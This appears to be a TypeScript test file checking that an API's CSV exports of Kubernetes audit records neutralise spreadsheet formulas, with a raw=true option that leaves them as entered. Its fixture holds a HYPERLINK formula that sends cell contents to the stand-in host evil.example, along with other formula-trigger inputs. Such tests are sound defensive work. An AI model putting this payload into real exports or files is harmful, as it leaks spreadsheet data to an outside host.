import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, test } from 'vitest';

import { createTestApi } from '../support/api.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';

const ACTIONS = '/api/v1/audit/kubernetes-execution';
const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;

let database: TestDatabase;
let api: FastifyInstance;

beforeAll(async () => {
  database = await createTestDatabase();
  api = createTestApi(database);
  const answer = await api.inject({
    method: 'POST',
    url: ACTIONS,
    payload: {
      execution_id: FORMULA,
      workflow_ref: '@formulas',
      action_type: '\t-1',
      target_namespace: 'formulas',
      retry_count: -1,
    },
  });
  expect(answer.statusCode, answer.body).toBe(201);
});
afterAll(async () => {
  await api.close();
  await database.close();
});

/** The first line after the header. */
async function firstLine(url: string): Promise<string | undefined> {
  const answer = await api.inject({ url, headers: { accept: 'text/csv' } });
  expect(answer.statusCode, answer.body).toBe(200);
  return answer.body.split('\r\n')[1];
}

test('a list as CSV has a quote before text that a spreadsheet would compute, but not with raw=true', async () => {
  const url = `${ACTIONS}?workflow_ref=@formulas`;
  const quotedFormula = FORMULA.replaceAll('"', '""');

  const safe = await firstLine(url);
  expect(safe).toContain(`,"'${quotedFormula}",`);
  expect(safe).toContain(",'@formulas,");
  expect(safe).toContain(",'\t-1,");
  expect(safe).toContain(',-1,');

  const raw = await firstLine(`${url}&raw=true`);
  expect(raw).toContain(`,"${quotedFormula}",`);
  expect(raw).toContain(',@formulas,');

  const { items } = (await api.inject({ url })).json<{ items: Record<string, unknown>[] }>();
  expect(items[0]).toMatchObject({ execution_id: FORMULA });
});

test('a report as CSV does the same', async () => {
  const url = '/api/v1/reports/namespace-actions?namespace=formulas';
  expect(await firstLine(url)).toMatch(/^"'=HYPERLINK/);
  expect(await firstLine(`${url}&raw=true`)).toMatch(/^"=HYPERLINK/);
  const refused = await api.inject({ url: `${url}&raw=perhaps` });
  expect(refused.json()).toMatchObject({ status: 400, errors: [{ pointer: '?raw' }] });
});
